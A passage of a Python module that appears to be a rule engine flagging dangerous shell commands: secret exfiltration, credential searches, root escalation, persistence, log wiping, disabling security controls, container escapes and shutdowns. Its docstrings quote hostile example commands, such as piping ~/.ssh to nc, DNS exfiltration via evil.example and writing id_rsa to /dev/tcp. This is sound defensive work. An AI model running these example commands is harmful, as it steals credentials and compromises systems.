            return f"{found[0]} | {cmd.program}"
    if cmd.program in vocabulary().programs["network_clients"]:
        found = hit.inputs("shell")
        if found:
            return f"{found[0]} | {cmd.program}"
    return None


# ---- credentials and exfiltration -------------------------------------------------------------------


_SENDS_OPERANDS = frozenset(
    {"scp", "rsync", "sftp", "rclone", "aws", "gsutil", "az", "s3cmd", "smbclient", "azcopy"}
)
_HOST_OPERAND = frozenset(
    {"ssh", "telnet", "dig", "nslookup", "host", "ping", "ping6", "whois", "ftp", "tftp"}
)


def serves_files(cmd: SimpleCommand) -> str | None:
    """The directory a one-command web server publishes (``python3 -m http.server``, ``php -S``), if any."""
    args = cmd.args
    if cmd.program.startswith("python") and "http.server" in args or cmd.program in ("php",) and "-S" in args:
        roots = option_value(args, ("--directory", "-d", "-t"))
        return roots[0] if roots else (cmd.cwd or ".")
    if cmd.program == "busybox" and args[:1] == ("httpd",) or cmd.program == "httpd" and "-h" in args:
        roots = option_value(args, ("-h",))
        return roots[0] if roots else (cmd.cwd or ".")
    return None


_MAILERS = frozenset({"mail", "mailx", "sendmail", "mutt", "msmtp", "ssmtp", "swaks"})


def remote_endpoint(hit: Hit) -> str | None:
    """Where a command sends data: a URL, ``host:path``, a socket, a mail address, a network client's host."""
    cmd = hit.cmd
    socket = next((r.target for r in cmd.redirects if r.target.startswith(("/dev/tcp/", "/dev/udp/"))), None)
    if socket:
        return socket
    found = urls(cmd.args)
    if found:
        return found[0]
    programs = vocabulary().programs
    if cmd.program in _SENDS_OPERANDS:
        return next(
            (a for a in hit.operands if REMOTE_PATH.match(a) and not a.startswith(("/", "~", "."))), None
        )
    if cmd.program in _MAILERS:
        return next((a for a in cmd.args if "@" in a and not a.startswith("-")), None)
    if serves_files(cmd) is not None:
        return "a web server"
    if cmd.program in programs["network_clients"] or cmd.program in _HOST_OPERAND:
        host = next((a for a in hit.operands if not a.isdigit()), None)
        if host is None and (hit.options & {"-l", "--listen"} or any(a.startswith("-l") for a in cmd.args)):
            return "a listening socket"  # nc -l PORT < secret serves it to whoever connects
        return host
    return None


@check("sends_secret")
def sends_secret(hit: Hit) -> str | None:
    """Any program that takes a sensitive source (a secret file, the environment) to a remote endpoint.

    The source may be an upload option (``curl -d @f``, ``-F x=@f``, ``-T f``, ``wget --post-file``), an
    operand sent as is (``scp``, ``rsync``, ``rclone``, ``aws s3 cp``), stdin (whatever pipeline or
    ``<`` brought it: ``tar czf - ~/.ssh | nc``), or a substitution in the arguments
    (``dig $(base64 ~/.ssh/id_rsa).evil.example``).
    """
    cmd = hit.cmd
    endpoint = remote_endpoint(hit)
    if endpoint is None:
        return None
    sources = [*hit.inputs("secret"), *(f"the environment ({e})" for e in hit.inputs("environment"))]
    if any(r.writes and r.fd in (None, "1") and r.target == endpoint for r in cmd.redirects):
        printed = output_tags(cmd)  # its own output goes to the socket: `cat ~/.ssh/id_rsa > /dev/tcp/...`
        sources += sorted(t.split(":", 1)[1] for t in printed if t.startswith(("secret:", "environment:")))
    if sources:  # tagged upstream: every one of them is sensitive
        return f"{sources[0]} -> {endpoint}"
    words = vocabulary().patterns
    for arg in cmd.args:  # a key that only signs is never sent, and no API takes a secret in a host name
        if words["signing_secret_variable"].search(arg) or words["secret_in_host"].search(arg):
            return f"{arg} -> {endpoint}"
    payload: list[str] = []
    if cmd.program == "curl":
        data = option_value(cmd.args, ("-d", "--data", "--data-binary", "--data-raw", "--data-urlencode"))
        payload += [v.lstrip("@<") for v in data if v.startswith("@")]
        payload += [
            v.split("@", 1)[1].split(";")[0] for v in option_value(cmd.args, ("-F", "--form")) if "@" in v
        ]
        payload += option_value(cmd.args, ("-T", "--upload-file"))
    elif cmd.program == "wget":
        payload += option_value(cmd.args, ("--post-file", "--body-file"))
    elif cmd.program in _SENDS_OPERANDS:
        payload += [a for a in hit.operands if a != endpoint]
    elif cmd.program in _MAILERS:
        payload += option_value(cmd.args, ("-a", "-A", "--attach"))
    served = serves_files(cmd)
    if served is not None:
        root = resolve(served, cmd.cwd)
        if norm_path(root) == "/":
            return "/ -> a web server"  # the whole file system, secrets included
        payload.append(root)
    found = next((p for p in payload if is_exfil_worthy(resolve(p, cmd.cwd))), None)
    return f"{found} -> {endpoint}" if found else None


@check("socket_write", needs="redirects")
def socket_write(hit: Hit) -> str | None:
    """Output redirected to ``/dev/tcp`` or ``/dev/udp``."""
    return next(
        (r.target for r in hit.cmd.redirects if r.writes and r.target.startswith(("/dev/tcp/", "/dev/udp/"))),
        None,
    )


@check("env_secret")
def env_secret(hit: Hit) -> str | None:
    """A secret-named variable printed or sent, or the environment grepped for secrets."""
    cmd = hit.cmd
    words = vocabulary()
    if (
        cmd.program in ("echo", "printf", "printenv", "print")
        or cmd.program in words.programs["network_clients"]
        or cmd.program in words.programs["downloaders"]
    ):
        secret_variable = words.patterns["secret_variable"]
        found = next(
            (
                a
                for a in cmd.args
                if secret_variable.search(a)
                or (cmd.program == "printenv" and re.search(r"SECRET|TOKEN|PASSWORD|KEY", a))
            ),
            None,
        )
        if found:
            return found
    if cmd.program in ("grep", "egrep", "rg") and hit.inputs("environment"):
        return next(
            (a for a in cmd.args if re.search(r"secret|token|pass|key|aws|api", a, re.IGNORECASE)), None
        )
    return None


@check("credential_hunt")
def credential_hunt(hit: Hit) -> str | None:
    """A recursive search of a critical tree for passwords or keys (grep -r, find -name id_rsa)."""
    cmd = hit.cmd
    if (
        cmd.program in ("grep", "egrep", "rg", "ag")
        and hit.options & {"-r", "-R", "--recursive"} | ({"-r"} if cmd.program in ("rg", "ag") else set())
        and any(
            re.search(r"passw|secret|api[_-]?key|private key|BEGIN .*PRIVATE", a, re.IGNORECASE)
            for a in cmd.args
        )
    ):
        return next((a for a in hit.operands if path_tier(a) == "critical"), None)
    if cmd.program in ("find", "locate") and any(
        re.search(r"id_rsa|\.pem|\.key$|credentials|shadow|\.kdbx", a) for a in cmd.args
    ):
        roots = find_roots(cmd.args) if cmd.program == "find" else ["/"]
        return next((r for r in roots if path_tier(r) == "critical"), None)
    return None


# ---- privilege escalation ---------------------------------------------------------------------------


@check("uid0_account")
def uid0_account(hit: Hit) -> str | None:
    """``useradd/usermod -u 0``."""
    cmd = hit.cmd
    if cmd.program not in ("useradd", "usermod", "adduser"):
        return None
    uids = short_option(cmd.args, "u", "bcdefgGkKlLpsUZ") + option_value(cmd.args, ("--uid",))
    return f"{cmd.program} -u 0" if "0" in uids else None


_ROOT_CAPABILITIES = re.compile(
    r"cap_(?:setuid|setgid|dac_override|dac_read_search|sys_admin|sys_ptrace|sys_module|chown|fowner)|^(?:all|=ep)"
    r"|^[=+]?e?p$",
    re.IGNORECASE,
)


@check("root_capability")
def root_capability(hit: Hit) -> str | None:
    """``setcap cap_setuid+ep FILE`` and friends: capabilities that amount to root, given to a program."""
    if hit.cmd.program != "setcap" or len(hit.operands) < 2 or "-r" in hit.cmd.args:
        return None
    granted = hit.operands[0]
    return f"{granted} on {hit.operands[1]}" if _ROOT_CAPABILITIES.search(granted) else None


@check("removes_password")
def removes_password(hit: Hit) -> str | None:
    """``passwd -d root``: an account anyone can log in to; or root's password set from a script."""
    cmd = hit.cmd
    if cmd.program == "passwd" and (hit.options & {"-d", "--delete"}):
        return "passwd -d " + " ".join(hit.operands)
    if cmd.program == "chpasswd" and cmd.stdin_text and re.search(r"^root:", cmd.stdin_text, re.M):
        return "chpasswd root"
    return None


@check("sudoers_via_visudo")
def sudoers_via_visudo(hit: Hit) -> str | None:
    """``echo '... NOPASSWD: ALL' | EDITOR='tee -a' visudo`` edits sudoers without a human reading it."""
    if hit.cmd.program != "visudo" or not hit.cmd.stdin_text:
        return None
    return next(
        (line for line in hit.cmd.stdin_text.splitlines() if "NOPASSWD" in line or "ALL=(ALL" in line), None
    )


@check("root_shell")
def root_shell(hit: Hit) -> str | None:
    """An interactive root shell: ``sudo bash``, ``su``, ``sudo -i``."""
    cmd = hit.cmd
    escalators = {"sudo", "doas", "pkexec", "su", "runuser"}
    if cmd.program in SHELLS and set(cmd.wrappers) & escalators and "-c" not in cmd.args and not hit.operands:
        return f"{cmd.wrappers[-1]} {cmd.program}"
    if cmd.program == "su" and "-c" not in cmd.args and not option_value(cmd.args, ("-c", "--command")):
        users = [a for a in hit.operands if a != "-"]
        return "su" if not users or users[0] == "root" else None
    if cmd.program in ("sudo", "doas") and hit.options & {"-i", "-s", "--login", "--shell"}:
        return f"{cmd.program} {min(hit.options & {'-i', '-s', '--login', '--shell'})}"
    return None


@check("admin_group")
def admin_group(hit: Hit) -> str | None:
    """A user added to sudo, wheel, docker or another group that amounts to root."""
    cmd = hit.cmd
    if cmd.program in ("usermod", "gpasswd", "adduser", "useradd"):
        groups = option_value(cmd.args, ("-G", "-g", "--groups", "-a"))
        groups += [a for a in hit.operands if cmd.program in ("adduser", "gpasswd")]
        for group in groups:
            if set(group.split(",")) & {"sudo", "wheel", "root", "admin", "docker", "adm", "disk", "shadow"}:
                return group
    return None


# ---- persistence ------------------------------------------------------------------------------------


@check_factory("cron_install")
def cron_install(*, hostile: bool) -> Check:
    """Writing a cron table or piping into ``crontab -``, with (``hostile``) or without a hostile payload."""
    cron_path = vocabulary().patterns["cron_path"]

    def cron_install_check(hit: Hit) -> str | None:
        cmd = hit.cmd
        if cmd.program != "crontab" and not cmd.redirects and cmd.program not in WRITERS:
            return None  # writes nothing: the common case, decided without computing written paths
        writes_cron = next((p for p, _ in hit.written if cron_path.match(norm_path(p))), None)
        piped = cmd.program == "crontab" and (cmd.stdin_from or cmd.stdin_text or "-" in cmd.args)
        if not (writes_cron or piped):
            return None
        if _payload_is_hostile(hit) != hostile:
            return None
        return writes_cron or "crontab -"

    return cron_install_check


_PERSISTENCE_WRAPPER = re.compile(r"^(?:written to (\S+)|crontab)$")


@check_factory("persisted_network", needs="wrappers")
def persisted_network(*, kinds: list[Literal["cron", "unit", "desktop", "script"]]) -> Check:
    """A command the system will run later from a persistence point of one of ``kinds`` (its text was
    written to a cron table, a systemd unit, an autostart entry or a start-up script) that downloads,
    talks to the network or decodes code."""
    wanted = frozenset(kinds)
    words = vocabulary()
    suspicious = words.programs["downloaders"] | words.programs["network_clients"]

    def persisted_network_check(hit: Hit) -> str | None:
        cmd = hit.cmd
        for wrapper in cmd.wrappers:
            m = _PERSISTENCE_WRAPPER.match(wrapper)
            if not m:
                continue
            kind = "cron" if m.group(1) is None else persistence_kind(m.group(1))
            if kind not in wanted:
                continue
            if (
                cmd.program in suspicious
                or decoder(cmd)
                or any(r.target.startswith("/dev/tcp/") for r in cmd.redirects)
            ):
                return f"{cmd.program} from {m.group(1) or 'crontab'}"
        return None

    return persisted_network_check


@check_factory("downloaded_into", needs="writes")
def downloaded_into(
    *, pattern: str | None = None, suffixes: list[str] | None = None, persistence: bool = False
) -> Check:
    """A download written into a file the system trusts or runs later (``curl URL >> ~/.bashrc``,
    ``curl URL | tee -a ~/.ssh/authorized_keys``): it holds whatever the server sends, now and later.

    ``persistence``: the file is one the system runs later (cron, unit, autostart, start-up script).
    A key list from a code host's published keys (``https://github.com/NAME.keys``) is the user's own.
    """
    test = _path_test(None, None, pattern, None, suffixes, False) if pattern or suffixes else None
    words = vocabulary()
    published = words.patterns["published_keys"]

    def downloaded_into_check(hit: Hit) -> str | None:
        cmd = hit.cmd
        fetched = {norm_path(resolve(p, cmd.cwd)) for p in downloaded_files(cmd.program, cmd.args)}
        printed = any(t.startswith("download:") for t in output_tags(cmd))
        upstream = bool(hit.inputs("download"))
        for path, _ in hit.written:
            if (test is not None and not test(path)) or (persistence and persistence_kind(path) is None):
                continue
            stdout = any(
                r.writes and r.fd in (None, "1") and resolve(r.target, cmd.cwd) == path for r in cmd.redirects
            )
            if not (upstream or norm_path(path) in fetched or printed and stdout):
                continue
            sources = [
                u
                for c in hit.script.commands
                if c.program in words.programs["downloaders"]
                for u in urls(c.args)
            ]
            if suffixes and sources and all(published.match(u) for u in sources):
                continue
            return path
        return None

    return downloaded_into_check


_EMPTY_SOURCES = frozenset({"/dev/null", "/dev/zero", "/dev/random", "/dev/urandom"})


@check_factory("clobbers", needs="writes")
def clobbers(*, pattern: str) -> Check:
    """A file matching the vocabulary ``pattern`` replaced in place: ``>``, ``truncate``, ``dd of=``, ``tee``
    (copying a new file over it, as installers do, is not clobbering)."""
    _known("pattern", pattern, vocabulary().patterns)
    regex = vocabulary().patterns[pattern]

    def clobbers_check(hit: Hit) -> str | None:
        cmd = hit.cmd
        emptied = bool(_EMPTY_SOURCES & set(hit.operands[:-1])) and (  # cp /dev/null /usr/bin/x empties x
            cmd.program != "ln" or bool(hit.options & {"-f", "--force"})
        )  # copying or linking a new build in place does not
        if cmd.program in ("cp", "mv", "install", "ln", "rsync", "scp") and not emptied:
            targets = [resolve(r.target, cmd.cwd) for r in cmd.redirects if r.writes and ">>" not in r.op]
        else:
            targets = [p for p, how in hit.written if how == "write"]
        return next((p for p in targets if regex.match(norm_path(p))), None)

    return clobbers_check


@check("rc_backdoor", needs="writes")
def rc_backdoor(hit: Hit) -> str | None:
    """A shell start-up file written by a script that echoes a hostile payload."""
    shell_rc = vocabulary().patterns["shell_rc"]
    target = next((p for p, _ in hit.written if shell_rc.match(norm_path(p))), None)
    return target if target and _payload_is_hostile(hit) else None


@check("root_authorized_keys", needs="writes")
def root_authorized_keys(hit: Hit) -> str | None:
    """A write to root's ``authorized_keys``."""
    return next(
        (
            p
            for p, _ in hit.written
            if p.startswith("/root/") and p.endswith(("authorized_keys", "authorized_keys2"))
        ),
        None,
    )


# ---- defense evasion --------------------------------------------------------------------------------


@check_factory("wipes_log", needs="paths")
def wipes_log(*, pattern: str) -> Check:
    """A log file matching the vocabulary ``pattern`` deleted, shredded, truncated or overwritten."""
    _known("pattern", pattern, vocabulary().patterns)
    regex = vocabulary().patterns[pattern]

    def matches(path: str) -> bool:
        norm = norm_path(path)
        if path.rstrip("/").endswith(("/*", "/**")) and not regex.match(norm):
            return bool(regex.match(norm.rstrip("/") + "/auth.log"))  # every file of the log directory
        return bool(regex.match(norm))

    def wipes_log_check(hit: Hit) -> str | None:
        cmd = hit.cmd
        if cmd.program in ("rm", "shred", "truncate", "unlink", "srm", "wipe"):
            found = next((a for a in hit.operands if matches(a)), None)
            if found:
                return found
        return next((p for p, how in hit.written if how == "write" and matches(p)), None)

    return wipes_log_check


def _written_text(hit: Hit) -> str:
    """What a command writes, where it is known: what echo/printf print, tee's stdin, sed's expressions."""
    cmd = hit.cmd
    if cmd.program in ("sed", "gsed", "perl"):
        return "\n".join(cmd.args)
    printed = textflow.output(cmd.program, cmd.args, cmd.stdin_text, lambda _: None)
    return printed if printed is not None else cmd.stdin_text or ""


_SECONDS = {"": 1, "s": 1, "sec": 1, "m": 60, "min": 60, "h": 3600, "d": 86400}


@check("vacuums_journal")
def vacuums_journal(hit: Hit) -> str | None:
    """``journalctl --vacuum-time=1s`` (an hour at most), ``--vacuum-size`` of a megabyte at most or
    ``--vacuum-files=1``: the archived journal deleted, nothing worth keeping kept."""
    args = hit.cmd.args
    for value in option_value(args, ("--vacuum-time",)):
        m = re.fullmatch(r"(\d+)\s*([a-z]*)", value.lower())
        if m and m.group(2) in _SECONDS and int(m.group(1)) * _SECONDS[m.group(2)] <= 3600:
            return f"--vacuum-time={value}"
    for value in option_value(args, ("--vacuum-size",)):
        size = _bytes(value)
        if size is not None and size <= 1 << 20:
            return f"--vacuum-size={value}"
    return next(
        (f"--vacuum-files={v}" for v in option_value(args, ("--vacuum-files",)) if v in ("0", "1")), None
    )


_PROC_SYS = re.compile(r"^/proc/sys/(\S+)$")


@check("hardening_off", needs="writes")
def hardening_off(hit: Hit) -> str | None:
    """A kernel exploit mitigation switched off (ASLR, protected links), by sysctl, /proc/sys or sysctl.d."""
    off = vocabulary().patterns["hardening_off"]
    settings = (f"{key}={value}" for key, value in _kernel_settings(hit))
    return next((s for s in settings if off.match(re.sub(r"\s+", "", s))), None)


def _kernel_settings(hit: Hit) -> list[tuple[str, str]]:
    """(key, value) of the kernel settings a command makes: ``sysctl -w K=V``, a write to /proc/sys/K, or
    a line of a sysctl.d file; a write to another /proc or /sys file is its path as the key."""
    cmd = hit.cmd
    settings = [a.partition("=")[::2] for a in cmd.args if "=" in a] if cmd.program == "sysctl" else []
    text = _written_text(hit) if hit.written else ""
    for path, _ in hit.written:
        norm = norm_path(path)
        key = _PROC_SYS.match(norm)
        if key is not None:
            settings.append((key.group(1).replace("/", "."), text.strip()))
        elif vocabulary().patterns["sysctl_file"].match(norm):
            settings.extend(line.partition("=")[::2] for line in text.splitlines() if "=" in line)
        elif norm.startswith(("/sys/", "/proc/")):
            settings.append((norm, text.strip()))
    return [(key.strip(), value.strip().strip("'\"")) for key, value in settings]


_SYSTEM_PROGRAM = re.compile(r"^/(?:usr/)?(?:s?bin|lib|lib64|libexec)/")


@check("kernel_runs_helper", needs="writes")
def kernel_runs_helper(hit: Hit) -> str | None:
    """The kernel told to run a program of the script's choosing, as root, when something happens: a core
    dump piped to it (``core_pattern=|PROG``), the module loader or hotplug helper replaced, an
    interpreter registered with binfmt_misc. A program of the system's own (``|/usr/lib/systemd/...``)
    is configuration; any other is a way out of a container and into root (T1611)."""
    for key, value in _kernel_settings(hit):
        if key == "kernel.core_pattern" and value.startswith("|"):
            program = value[1:].split(maxsplit=1)[0] if value[1:].strip() else ""
            if not _SYSTEM_PROGRAM.match(program):
                return f"core_pattern={value}"
        elif key in ("kernel.modprobe", "kernel.hotplug", "/sys/kernel/uevent_helper") and value:
            if not _SYSTEM_PROGRAM.match(value):
                return f"{key}={value}"
        elif key == "fs.binfmt_misc.register" and value.count(":") >= 6:
            interpreter = value.split(":")[6]
            if not _SYSTEM_PROGRAM.match(interpreter):
                return f"binfmt_misc interpreter {interpreter}"
    return None


_MODULE_TREE = ("/lib/modules/", "/usr/lib/modules/")


@check_factory("loads_module_file")
def loads_module_file(*, scratch_only: bool) -> Check:
    """``insmod FILE``: a kernel module loaded from a file rather than by name from the system's module
    tree runs whatever that file holds in the kernel. ``scratch_only``: only a file in a temporary,
    world-writable directory (anybody could have put it there)."""
    scratch = vocabulary().scratch_prefixes

    def loads_module_file_check(hit: Hit) -> str | None:
        cmd = hit.cmd
        if cmd.program == "kmod" and cmd.args[:1] != ("insmod",):
            return None
        args = cmd.args[1:] if cmd.program == "kmod" else cmd.args
        module = next((a for a in args if not a.startswith("-")), None)
        if module is None or norm_path(module).startswith(_MODULE_TREE):
            return None
        if scratch_only and not norm_path(module).startswith(scratch):
            return None
        return module

    return loads_module_file_check


_SECURITY_MODULES = frozenset({"apparmor", "selinux", "lockdown", "yama", "tomoyo", "smack", "landlock"})
_FIREWALL_MODULE = re.compile(
    r"^(?:nf_tables|nft_\w+|ip6?_tables|ip6?table_\w+|x_tables|nf_conntrack\w*|xt_\w+)$"
)


def removed_modules(hit: Hit) -> list[str]:
    """The kernel modules a command unloads: ``rmmod M``, ``modprobe -r M``."""
    cmd = hit.cmd
    if cmd.program == "rmmod" or (cmd.program == "kmod" and cmd.args[:1] == ("rmmod",)):
        return [a for a in cmd.args if not a.startswith("-") and a != "rmmod"]
    if cmd.program == "modprobe" and hit.options & {"-r", "--remove"}:
        return [a for a in cmd.args if not a.startswith("-")]
    return []


_PAM_STACK = re.compile(r"^/etc/(?:pam\.d/\S+|pam\.conf)$")


@check("pam_weakened", needs="writes")
def pam_weakened(hit: Hit) -> str | None:
    """``pam_permit.so`` put into an authentication stack (every password, or none, is accepted), or a
    stack replaced by nothing (``cp /dev/null``, ``truncate -s 0``, ``: >``): nobody logs in."""
    cmd = hit.cmd
    target = next((p for p, how in hit.written if _PAM_STACK.match(norm_path(p))), None)
    if target is None:
        return None
    if re.search(r"\bpam_permit\.so\b", _written_text(hit)):
        return target
    replaced = next(how for p, how in hit.written if p == target) == "write"
    if cmd.program in ("cp", "install", "ln", "mv"):
        emptied = bool(_EMPTY_SOURCES & set(hit.operands[:-1]))
    else:
        emptied = cmd.program == "truncate" or (
            cmd.program in ("", ":", "true", "echo", "printf") and not _written_text(hit).strip()
        )
    return target if replaced and emptied else None


@check("history_off")
def history_off(hit: Hit) -> str | None:
    """Shell history cleared, sent to /dev/null, sized to zero or deleted."""
    cmd = hit.cmd
    if cmd.program == "history" and (
        "-c" in hit.options or ("-w" in hit.options and "/dev/null" in cmd.args)
    ):
        return "history " + " ".join(cmd.args)
    if cmd.program in ("unset", "export", "declare", "set", "typeset"):
        for arg in cmd.args:
            if re.match(r"^(HISTFILE|HISTSIZE|HISTFILESIZE)(=(/dev/null|0)?)?$", arg) and (
                cmd.program == "unset" or "=" in arg
            ):
                return f"{cmd.program} {arg}"
        if cmd.program == "set" and cmd.args[:2] == ("+o", "history"):
            return "set +o history"
    for name, value in hit.script.assignments:
        if name in ("HISTFILE", "HISTSIZE", "HISTFILESIZE") and value in ("/dev/null", "0", ""):
            return f"{name}={value}"
    if cmd.program in ("rm", "shred", "truncate", "ln") or any(w == "write" for _, w in hit.written):
        history_file = vocabulary().patterns["history_file"]
        target = next((a for a in hit.operands if history_file.match(norm_path(a))), None)
        if target and cmd.program in ("rm", "shred", "truncate", "ln"):
            return target
        return next(
            (p for p, how in hit.written if how == "write" and history_file.match(norm_path(p))), None
        )
    return None


@check_factory("service_action")
def service_action(*, services: list[str], actions: list[str] | None = None) -> Check:
    """``systemctl ACTION SERVICE``, ``service SERVICE ACTION`` or ``pkill SERVICE`` for the named services.

    ``actions`` defaults to stop, disable, mask and kill.
    """
    service_names = "|".join(map(re.escape, services))
    action_names = "|".join(map(re.escape, actions or ("stop", "disable", "mask", "kill")))
    service_re = re.compile(rf"^(?:{service_names})(?:\.service)?$")
    action_re = re.compile(rf"^(?:{action_names})$")
    daemon_re = re.compile(rf"^(?:{service_names})d?$")  # the process: rsyslogd for rsyslog

    def service_action_check(hit: Hit) -> str | None:
        args = [a for a in hit.cmd.args if not a.startswith("-")]
        if hit.cmd.program == "kill":  # kill $(pidof auditd), kill $(pgrep -x rsyslogd)
            for found in hit.substituted():
                if found.program in ("pidof", "pgrep"):
                    name = next((a for a in found.args if daemon_re.match(a)), None)
                    if name:
                        return name
            return None
        if hit.cmd.program == "systemctl" and args and action_re.match(args[0]):
            return next((a for a in args[1:] if service_re.match(a)), None)
        if (
            hit.cmd.program == "service"
            and len(args) >= 2
            and service_re.match(args[0])
            and action_re.match(args[1])
        ):
            return args[0]
        if hit.cmd.program in ("pkill", "killall") and any(daemon_re.match(a) for a in args):
            return args[-1]
        return None

    return service_action_check


@check("firewall_flush")
def firewall_flush(hit: Hit) -> str | None:
    """iptables flushed or set to accept, ``nft flush ruleset``, ``ufw disable/reset``."""
    cmd = hit.cmd
    if cmd.program in ("iptables", "ip6tables", "iptables-legacy", "iptables-nft"):
        if hit.options & {"-F", "--flush", "-X", "--delete-chain"}:
            return f"{cmd.program} {min(hit.options & {'-F', '--flush', '-X', '--delete-chain'})}"
        policy = option_value(cmd.args, ("-P", "--policy"))
        if policy and cmd.args[-1:] == ("ACCEPT",):
            return f"{cmd.program} -P {policy[0]} ACCEPT"
    if cmd.program == "nft" and cmd.args[:2] == ("flush", "ruleset"):
        return "nft flush ruleset"
    if cmd.program == "ufw" and ("disable" in cmd.args or "reset" in cmd.args):
        return "ufw " + " ".join(cmd.args)
    unloaded = next((m for m in removed_modules(hit) if _FIREWALL_MODULE.match(m)), None)
    return f"{cmd.program} unloads {unloaded}" if unloaded is not None else None


_SELINUX_OFF = re.compile(r"SELINUX=(disabled|permissive)")


@check("selinux_off")
def selinux_off(hit: Hit) -> str | None:
    """``setenforce 0``, ``aa-teardown``, or ``SELINUX=disabled`` written to a file."""
    cmd = hit.cmd
    if cmd.program == "setenforce" and cmd.args[:1] in (("0",), ("Permissive",), ("permissive",)):
        return "setenforce " + cmd.args[0]
    if cmd.program in ("aa-teardown",):
        return cmd.program
    unloaded = next((m for m in removed_modules(hit) if m.replace("-", "_") in _SECURITY_MODULES), None)
    if unloaded is not None:
        return f"{cmd.program} unloads {unloaded}"
    words = [a for a in cmd.args if not a.startswith("-")]
    if (
        cmd.program == "systemctl"
        and words[:1] in (["stop"], ["disable"], ["mask"], ["kill"])
        and any(w in ("apparmor", "apparmor.service") for w in words[1:])
    ) or (cmd.program == "service" and words[:1] == ["apparmor"] and words[1:2] in (["stop"], ["teardown"])):
        return f"{cmd.program} {' '.join(words)}"
    if (hit.written or cmd.program == "sed") and any(_SELINUX_OFF.search(a) for a in cmd.args):
        return "SELINUX=disabled"
    if cmd.program in ("echo", "printf") and cmd.args[-1:] == ("0",):  # the kernel's own switch
        return next(
            (p for p, _ in hit.written if norm_path(p) in ("/sys/fs/selinux/enforce", "/selinux/enforce")),
            None,
        )
    return None


@check("audit_off")
def audit_off(hit: Hit) -> str | None:
    """``auditctl -D`` (delete all rules) or ``auditctl -e 0``."""
    cmd = hit.cmd
    if cmd.program == "auditctl" and ("-D" in cmd.args or option_value(cmd.args, ("-e",)) == ["0"]):
        return "auditctl " + " ".join(cmd.args)
    return None


# ---- containers -------------------------------------------------------------------------------------


_HOST_DIRS = frozenset({"/", "/etc", "/root", "/proc", "/sys", "/dev", "/boot", "/var", "/usr", "~"})


def _pod_specs(hit: Hit) -> list[object]:
    """The pod specifications ``kubectl`` is given: ``run --overrides=JSON``, or ``apply``/``create -f -``
    reading a manifest from stdin (a here-document)."""
    cmd = hit.cmd
    if cmd.program != "kubectl":
        return []
    texts = option_value(cmd.args, ("--overrides",))
    if cmd.args[:1] in (("apply",), ("create",), ("replace",)) and "-" in option_value(cmd.args, ("-f",)):
        texts.append(cmd.stdin_text or "")
    specs: list[object] = []
    for text in texts:
        try:
            specs.extend(yaml.safe_load_all(text[:_MANIFEST_CHARS]))  # JSON is YAML
        except (yaml.YAMLError, RecursionError):
            continue
    return specs


_MANIFEST_CHARS = 1 << 16


def pod_settings(hit: Hit) -> dict[str, object]:
    """``privileged``, ``hostPID`` and the ``hostPath`` volumes anywhere in the pod specifications, each
    node visited once (YAML aliases share nodes: a walk that followed them could take exponential time)."""
    found: dict[str, object] = {}
    pending, seen = _pod_specs(hit), set()
    while pending:
        node = pending.pop()
        if id(node) in seen:
            continue
        seen.add(id(node))
        if isinstance(node, dict):
            for key, value in node.items():
                if key in ("privileged", "hostPID") and value is True:
                    found[key] = True
                elif key == "hostPath" and isinstance(value, dict) and isinstance(value.get("path"), str):
                    found.setdefault("hostPath", []).append(value["path"])  # type: ignore[union-attr]
                else:
                    pending.append(value)
        elif isinstance(node, list):
            pending.extend(node)
    return found


@check("mounts_host")
def mounts_host(hit: Hit) -> str | None:
    """A container run with the host's root, /etc, /proc, home ... mounted."""
    cmd = hit.cmd
    if cmd.program == "kubectl":  # a pod with a hostPath volume of the host's root
        paths = pod_settings(hit).get("hostPath", [])
        return next((f"hostPath {p}" for p in paths if norm_path(p) in _HOST_DIRS), None)  # type: ignore[union-attr]
    if not cmd.args or cmd.args[0] not in ("run", "create", "exec", "container"):
        return None
    volumes = option_value(cmd.args, ("-v", "--volume", "--mount"))
    for volume in volumes:
        source = volume.split(":", 1)[0]
        if volume.startswith("type=") or "source=" in volume or "src=" in volume:
            match = re.search(r"(?:source|src)=([^,]+)", volume)
            source = match.group(1) if match else ""
        if norm_path(source) in _HOST_DIRS:
            return volume
    return None


@check("privileged_container")
def privileged_container(hit: Hit) -> str | None:
    """``--privileged``, host namespaces, dangerous capabilities, the container socket, no confinement."""
    cmd = hit.cmd
    if cmd.program == "kubectl":
        settings = pod_settings(hit)
        return next((f"{key}: true" for key in ("privileged", "hostPID") if key in settings), None)
    if not cmd.args or cmd.args[0] not in ("run", "create", "exec"):
        return None
    for arg in cmd.args:
        if arg in ("--privileged", "--pid=host", "--ipc=host", "--userns=host") or arg.startswith(
            "--privileged="
        ):
            return arg
        if re.match(r"^--cap-add[= ]?(ALL|SYS_ADMIN|SYS_PTRACE|SYS_MODULE|DAC_READ_SEARCH)$", arg):
            return arg
        if "docker.sock" in arg or re.search(r"(apparmor|seccomp)[=:]unconfined", arg):
            return arg
    caps = option_value(cmd.args, ("--cap-add",))
    if any(c in ("ALL", "SYS_ADMIN", "SYS_PTRACE", "SYS_MODULE") for c in caps):
        return f"--cap-add {caps[0]}"
    pid = option_value(cmd.args, ("--pid",))
    return "--pid host" if "host" in pid else None


@check("privileged_with_host_pid")
def privileged_with_host_pid(hit: Hit) -> str | None:
    """``run --privileged --pid=host``: every host process is one ``nsenter`` away."""
    args = hit.cmd.args
    if hit.cmd.program == "kubectl":
        settings = pod_settings(hit)
        return "privileged: true, hostPID: true" if {"privileged", "hostPID"} <= settings.keys() else None
    privileged = any(a == "--privileged" or a == "--privileged=true" for a in args)
    host_pid = "--pid=host" in args or "host" in option_value(args, ("--pid",))
    return (
        "--privileged --pid=host" if privileged and host_pid and args[:1] in (("run",), ("create",)) else None
    )


@check("nsenter_host")
def nsenter_host(hit: Hit) -> str | None:
    """``nsenter`` into PID 1's namespaces."""
    targets = option_value(hit.cmd.args, ("-t", "--target"))
    if "1" in targets or "-a" in hit.cmd.args or "--all" in hit.cmd.args:
        return "nsenter --target 1"
    return None


# ---- availability -----------------------------------------------------------------------------------


@check("sysrq_crash")
def sysrq_crash(hit: Hit) -> str | None:
    """``echo c > /proc/sysrq-trigger`` (crash, reboot or power off at once)."""
    cmd = hit.cmd
    if cmd.program in ("echo", "printf") and cmd.args[-1:] in (("c",), ("b",), ("o",)):
        return next((p for p, _ in hit.written if p == "/proc/sysrq-trigger"), None)
    return None


@check("shutdown")
def shutdown(hit: Hit) -> str | None:
    """shutdown, reboot, halt, poweroff, ``init 0/6`` or their systemctl forms."""
    cmd = hit.cmd
    if "--help" in cmd.args or "--version" in cmd.args:
        return None
    if cmd.program in ("shutdown", "reboot", "halt", "poweroff"):
